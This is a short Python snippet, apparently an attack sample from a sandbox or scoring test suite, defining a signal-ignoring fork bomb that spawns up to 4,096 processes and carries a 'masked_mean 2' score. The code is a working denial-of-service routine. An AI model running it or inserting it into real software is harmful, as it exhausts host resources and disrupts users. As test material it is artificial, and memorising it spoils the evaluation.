"""A fork bomb, at most 4,096 processes, each ignoring signals.

Earns: masked_mean 2
"""

import signal
import time


@in_call
def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            pass
    time.sleep(30)
    os._exit(0)
